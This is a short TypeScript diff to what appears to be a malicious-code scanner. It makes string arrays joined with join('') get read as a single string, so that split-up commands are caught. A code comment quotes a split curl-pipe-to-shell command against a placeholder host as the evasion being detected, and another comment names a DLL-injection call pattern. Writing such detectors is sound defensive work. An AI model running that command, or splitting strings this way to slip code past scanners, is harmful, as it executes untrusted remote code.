@@ -51,7 +51,17 @@ function isHighEntropy(text: string): boolean {
 }
 
 /** A call with an executable as its first argument and a library later: `inject('app.exe ...', 'x.dll')`. */
+/** `['cu', 'rl https://x | sh'].join('')`: an array of constant strings joined is read whole, as a `+` chain is. */
+function onJoin(node: AstNode, ctx: WalkContext): void {
+  if ((node.start as number) < ctx.joinedUntil) return;
+  const text = stringValue(node);
+  if (text === undefined) return;
+  ctx.joinedUntil = node.end as number;
+  inspectString(text, node, ctx);
+}
+
 function onCall(node: AstNode, ctx: WalkContext): void {
+  onJoin(node, ctx);
   const args = callArguments(node);
   if (args.length < 2) return;
   const first = constantString(args[0], ctx);
